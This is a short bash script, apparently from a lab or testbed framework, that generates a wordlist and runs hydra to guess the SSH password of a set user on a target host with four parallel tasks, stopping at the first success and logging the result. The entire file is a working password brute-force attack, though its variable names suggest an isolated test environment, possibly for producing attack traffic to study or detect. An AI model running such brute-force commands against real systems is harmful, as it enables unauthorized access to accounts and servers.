#!/usr/bin/env bash
# SSH password guessing with hydra (4 tasks, stops at the first success).
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
wordlist="$TB_STATE/ssh-hydra-wordlist.txt"
tb_wordlist "$wordlist" "$TB_COUNT"
tb_run "$TB_NS" hydra -I -f -t 4 -l "$TB_USER" -P "$wordlist" "ssh://$TB_VICTIM" > "$TB_STATE/hydra-ssh.log" 2>&1
